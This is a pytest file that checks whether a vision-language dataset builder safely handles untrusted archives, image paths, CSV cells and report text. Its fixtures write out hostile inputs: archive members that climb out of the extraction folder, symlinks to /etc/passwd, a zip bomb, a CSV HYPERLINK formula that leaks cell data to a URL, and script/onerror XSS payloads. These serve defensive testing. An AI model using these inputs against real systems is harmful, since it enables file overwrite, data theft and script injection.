"""What comes from elsewhere does no harm: names that climb, archives, bombs, markup, formulas."""

import gzip
import io
import json
import os
import tarfile
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from cogvlm_sft.errors import DataError
from data_builders import archives
from data_builders.archives import unpack
from data_builders.build import build_recipe
from data_builders.recipe import parse_recipe


def jpeg(colour: int = 0) -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (40, 40), (colour, 99, 0)).save(stream, "JPEG")
    return stream.getvalue()


def make_zip(path: Path, members: dict[str, bytes], links: tuple[str, ...] = ()) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        for name in links:
            link = zipfile.ZipInfo(name)
            link.external_attr = 0o120777 << 16
            archive.writestr(link, "/etc/passwd")
    return path


def make_tar(path: Path, members: dict[str, bytes], links: tuple[str, ...] = ()) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, content in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
        for name in links:
            for kind, target in ((tarfile.SYMTYPE, "/etc/passwd"), (tarfile.LNKTYPE, "../x.jpg")):
                member = tarfile.TarInfo(f"{name}{int(kind)}.jpg")
                member.type, member.linkname = kind, target
                archive.addfile(member)
        device = tarfile.TarInfo("device.jpg")
        device.type = tarfile.CHRTYPE
        archive.addfile(device)
    return path


CLIMBING = ("../out.jpg", "a/../../out.jpg", "/out_of_archive.jpg", "a\\..\\..\\out.jpg")


@pytest.mark.parametrize("make", [make_zip, make_tar], ids=["zip", "tar"])
def test_members_that_climb_out_are_refused(make, run, root, tmp_path, write_json):
    members = {"in/1.jpg": jpeg(1), "2.jpg": jpeg(2)} | dict.fromkeys(CLIMBING, jpeg(3))
    ending = "zip" if make is make_zip else "tar.gz"
    archive = make(root / f"pictures.{ending}", members, links=("link",))
    rows = [
        {"image": name, "question": "q", "answer": "a"}
        for name in ("in/1.jpg", "2.jpg", "../out.jpg", "link.jpg", "device.jpg")
    ]
    before = set(tmp_path.rglob("*"))
    report, records, result = run("custom_vqa", [write_json("q.json", rows)], images=str(archive))
    assert [r["images"] for r in records] == [["pictures/in/1.jpg"], ["pictures/2.jpg"]]
    assert report["dropped"] == {"image_missing": 2, "image_path_unsafe": 1}
    refused = result.manifest["refused_archive_members"][archive.as_posix()]
    assert set(CLIMBING) <= set(refused) and any("link" in name for name in refused)
    new = {path for path in set(tmp_path.rglob("*")) - before if path.suffix == ".jpg"}
    assert new == {root / "pictures" / "in" / "1.jpg", root / "pictures" / "2.jpg"}
    assert not Path("/out_of_archive.jpg").exists()
    bytes_before = (result.out / "manifest.json").read_bytes()
    _, _, again = run("custom_vqa", [tmp_path / "q.json"], images=str(archive))
    assert (again.out / "manifest.json").read_bytes() == bytes_before  # not unpacked twice


def test_annotations_in_an_archive(run, root, picture, tmp_path):
    picture(root / "1.jpg", 1)
    rows = [{"image": "1.jpg", "question": "q", "answer": "a"}]
    text = json.dumps(rows).encode()
    archive = make_zip(
        tmp_path / "mine.zip", {"set/q.json": text, "__MACOSX/q.json": b"x", "read.md": b"x"}
    )
    report, records, result = run("custom_vqa", [archive])
    assert report["kept"] == 1 and records[0]["meta"]["orig_file"] == "q.json"
    assert [i["path"] for i in result.manifest["inputs"]] == [f"{tmp_path}/mine/set/q.json"]
    empty = make_zip(tmp_path / "none.zip", {"readme.md": b"x"})
    with pytest.raises(DataError, match=r"none\.zip: holds no annotation file"):
        run("custom_vqa", [empty])


def test_a_folder_made_by_hand_is_left_alone(tmp_path):
    archive = make_zip(tmp_path / "p.zip", {"1.jpg": jpeg(1)})
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "mine.jpg").write_bytes(jpeg(5))
    assert unpack(archive) == (tmp_path / "p", [])
    assert [p.name for p in (tmp_path / "p").iterdir()] == ["mine.jpg"]


def test_a_changed_archive_is_unpacked_anew(tmp_path):
    archive = make_zip(tmp_path / "p.zip", {"1.jpg": jpeg(1)})
    unpack(archive)
    make_zip(archive, {"2.jpg": jpeg(2)})
    os.utime(archive, ns=(9, 9))
    folder, _ = unpack(archive)
    assert sorted(p.name for p in folder.glob("*.jpg")) == ["2.jpg"]


def test_broken_archives_are_named(tmp_path):
    archive = make_zip(tmp_path / "p.zip", {f"{n}.jpg": os.urandom(5000) for n in range(5)})
    whole = archive.read_bytes()
    broken = bytearray(whole)
    broken[300:3000] = bytes(2700)
    archive.write_bytes(broken)
    with pytest.raises(DataError, match=r"p\.zip: cannot be unpacked .*fetch it again"):
        unpack(archive)
    archive.write_bytes(whole[:9000])
    with pytest.raises(DataError, match=r"p\.zip: cannot be unpacked .*fetch it again"):
        unpack(archive)
    tar = make_tar(tmp_path / "t.tar.gz", {"1.jpg": os.urandom(90000)})
    tar.write_bytes(tar.read_bytes()[:40000])
    with pytest.raises(DataError, match=r"t\.tar\.gz: cannot be unpacked .*fetch it again"):
        unpack(tar)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.zip", "t.tar.gz"]


@pytest.mark.parametrize("left", [1024, 2048, 2048 + 512])
def test_a_tar_cut_between_its_members_is_not_taken_for_a_whole_one(left, tmp_path):
    tar = make_tar(tmp_path / "t.tar", {"1.json": b"[]", "2.json": b"[]"})  # two blocks each
    whole = gzip.decompress(tar.read_bytes())
    tar.write_bytes(whole[:left])
    with pytest.raises(DataError, match=r"t\.tar: cannot be unpacked .*(end mark|end of|empty)"):
        unpack(tar)
    tar.write_bytes(whole)
    assert [p.name for p in sorted(unpack(tar)[0].glob("[12].json"))] == ["1.json", "2.json"]
    packed = tmp_path / "z.tar.gz"
    packed.write_bytes(gzip.compress(whole)[:-6])  # its content is there, its checksum is not
    with pytest.raises(DataError, match=r"z\.tar\.gz: cannot be unpacked"):
        unpack(packed)


def test_an_archive_bomb_is_stopped(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "_SPARE", 1 << 20)
    archive = make_zip(tmp_path / "p.zip", {"1.json": bytes(30 << 20)})
    with pytest.raises(DataError, match="more than 200 times its size"):
        unpack(archive)
    assert [p.name for p in tmp_path.iterdir()] == ["p.zip"]


def test_names_that_are_file_and_folder_at_once(tmp_path):
    archive = make_zip(tmp_path / "p.zip", {"a": b"x", "a/b.jpg": b"x", "n" * 300 + ".jpg": b"x"})
    folder, refused = unpack(archive)
    assert refused == ["a/b.jpg", "n" * 300 + ".jpg"] and (folder / "a").is_file()


def test_pictures_outside_of_the_root(run, root, picture, tmp_path, write_json):
    """`../`, absolute names, and links out of the root, to a file and to a folder."""
    secret = picture(tmp_path / "secret" / "s.jpg", 1)
    picture(root / "ok.jpg", 2)
    (root / "file.jpg").symlink_to(secret)
    (root / "folder").symlink_to(secret.parent)
    os.mkfifo(root / "pipe.jpg")  # opening it would wait for ever
    names = ["ok.jpg", "../secret/s.jpg", str(secret), "file.jpg", "folder/s.jpg", "pipe.jpg",
             "ok.jpg/../../secret/s.jpg", "~/s.jpg", "file:///etc/passwd"]  # fmt: skip
    rows = [{"image": name, "question": "q", "answer": "a"} for name in names]
    report, records, _ = run("custom_vqa", [write_json("q.json", rows)])
    assert [r["images"] for r in records] == [["ok.jpg"]]
    assert report["dropped"] == {
        "image_missing": 1, "image_outside_root": 2, "image_path_unsafe": 5,
    }  # fmt: skip


def test_a_csv_formula_is_refused_and_shown_as_text(run, root, picture, tmp_path):
    picture(root / "1.jpg", 1)
    path = tmp_path / "q.csv"
    formula = '=HYPERLINK(""http://x/?""&A1,""click"")'
    path.write_text(f'image,question,answer\n1.jpg,q,"{formula}"\n1.jpg,How warm?,-3\n')
    report, records, result = run("custom_vqa", [path])
    assert report["dropped"] == {"spreadsheet_formula": 1}
    assert [r["messages"][1]["content"] for r in records] == ["-3"]
    assert {p.suffix for p in result.out.iterdir()} == {".jsonl", ".json", ".html"}
    page = (result.out / "report.html").read_text()
    assert "=HYPERLINK(" in page and 'href="http' not in page


def test_markup_in_every_foreign_text(run, root, picture, tmp_path, write_json, page):
    """Questions, answers, picture names and dropped records come from outside and are escaped."""
    own = "document.title='owned'"
    attack = f'</script><script>{own}</script><img src=x onerror="{own}">'
    picture(root / "1.jpg", 1)
    picture(root / "<b onmouseover=alert(1)>.jpg", 2)
    rows = [
        {"image": "1.jpg", "question": attack, "answer": attack},
        {"image": "<b onmouseover=alert(1)>.jpg", "question": "q", "answer": "'\"><svg onload=x>"},
        {"image": attack, "question": attack, "answer": attack},
    ]
    _, _, result = run("custom_vqa", [write_json("<i>q.json", rows)])
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto((result.out / "report.html").as_uri())
    assert page.title() != "owned"
    assert page.locator("main script, main svg[onload], main b[onmouseover]").count() == 0
    assert page.locator("img[onerror]").count() == 0
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []


def test_the_report_of_an_unchecked_build_shows_no_picture_from_outside(
    root, tmp_path, picture, write_json
):
    outside = picture(tmp_path / "secret.png", 3)
    (root / "link.png").symlink_to(outside)
    rows = [{"image": "link.png", "question": "What is it?", "answer": "A secret."}]
    recipe = parse_recipe(
        {
            "out": str(tmp_path / "build"), "image_root": str(root), "images": False,
            "sources": [
                {"source": "custom_vqa", "annotations": [str(write_json("rows.json", rows))]},
            ],
        },
        "test",
    )  # fmt: skip
    assert "data:image" not in (build_recipe(recipe).out / "report.html").read_text()
    (root / "link.png").unlink()
    picture(root / "link.png", 3)
    assert "data:image" in (build_recipe(recipe).out / "report.html").read_text()
